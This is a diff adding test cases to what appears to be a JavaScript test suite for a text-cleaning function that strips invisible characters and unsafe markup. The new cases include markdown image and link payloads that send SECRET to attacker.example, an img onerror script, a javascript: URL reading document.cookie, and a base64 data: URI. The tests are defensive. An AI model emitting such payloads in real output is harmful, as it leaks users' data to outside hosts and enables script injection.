@@ -6,6 +6,7 @@ describe('cleaning', () => {
     expect(cleanLine('pay\u200b the\u2060 de\u00adposit\ufeff')).toBe('pay the deposit');
     expect(cleanLine('file \u202egpj.exe\u202c')).toBe('file gpj.exe');
     expect(cleanLine('a\u0007b\u001bc')).toBe('a b c');
+    expect(cleanLine('pass\u200dwo\u200crd \u{e0001}one\u{e007f}')).toBe('password one');
   });
 
   it('spells out, as hidden, what was written in invisible tag characters', () => {
@@ -29,6 +30,19 @@ describe('cleaning', () => {
       'Open 9 a.m./10 a.m.? Ask the hotel/inn? Yes, e.g./i.e. 3/4?',
     ],
   ])('leaves of an address its place alone, with a scheme or without: %s', (text, left) => {
+    expect(cleanLine(text)).toBe(left);
+  });
+
+  it.each([
+    ['the ![map](https://attacker.example/c.png?d=SECRET) here', 'the map here'],
+    ['the ![map][1] here', 'the map here'],
+    ['the [tickets](https://attacker.example/?q=SECRET)', 'the tickets'],
+    ['the [tickets][here]', 'the tickets'],
+    ['see <https://attacker.example/x?d=SECRET>', 'see https://attacker.example/x'],
+    ['see <img src="https://attacker.example/?d=1" onerror="alert(1)"> it', 'see it'],
+    ['see javascript:alert(document.cookie) it', 'see it'],
+    ['see data:text/html;base64,SECRET it', 'see it'],
+  ])('leaves of a picture, a link and a tag its words alone: %s', (text, left) => {
     expect(cleanLine(text)).toBe(left);
   });
 
